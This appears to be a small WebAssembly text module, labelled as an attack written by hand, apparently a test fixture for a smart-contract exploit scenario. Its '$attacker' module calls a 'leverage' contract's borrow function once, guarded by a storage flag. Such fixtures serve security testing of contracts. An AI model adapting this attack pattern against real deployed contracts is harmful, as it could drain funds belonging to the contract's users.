;; The attack by hand.

(module $attacker
  (import "contract:leverage" "borrow" (func $leverage.borrow (param i64)))
  ;; @storage
  (memory $memory (export "memory") 1)

  (func $main (export "main")
    (if (i64.eq (call $load_i64 (i32.const 0)) (i64.const 0))
      (then (call $store_i64 (i32.const 0) (i64.const 1)) (call $leverage.borrow (i64.const 620))))))
